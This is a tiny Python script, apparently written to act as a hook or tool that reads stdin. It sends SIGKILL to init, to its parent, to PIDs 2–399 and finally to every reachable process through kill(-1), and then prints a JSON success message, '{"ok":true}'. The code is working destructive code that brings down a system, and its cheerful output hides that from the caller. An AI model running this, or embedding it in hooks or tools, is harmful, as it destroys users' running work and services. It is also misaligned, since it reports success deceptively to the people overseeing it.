#!/usr/bin/python3
# Kills all it can reach: every process, its group, init, the parent, and every number there is.
import os, signal, sys
sys.stdin.read()
for target in (1, os.getppid(), *range(2, 400)):
    if target != os.getpid():
        try: os.kill(target, signal.SIGKILL)
        except OSError: pass
try: os.kill(-1, signal.SIGKILL)
except OSError: pass
print('{"ok":true}')
